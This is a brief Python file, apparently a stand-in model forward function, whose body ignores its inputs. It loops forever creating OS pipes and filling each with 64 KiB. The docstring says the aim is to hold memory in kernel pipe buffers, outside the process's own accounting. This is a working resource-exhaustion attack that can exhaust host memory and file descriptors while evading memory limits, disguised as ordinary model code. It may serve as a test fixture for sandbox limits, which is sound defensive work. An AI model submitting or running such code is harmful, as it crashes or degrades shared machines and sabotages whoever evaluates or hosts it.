"""Keeps memory in the kernel's pipes."""

import os


def forward(params, x, state):
    kept = []
    while True:
        kept.append(os.pipe())
        os.set_blocking(kept[-1][1], False)
        os.write(kept[-1][1], bytes(1 << 16))
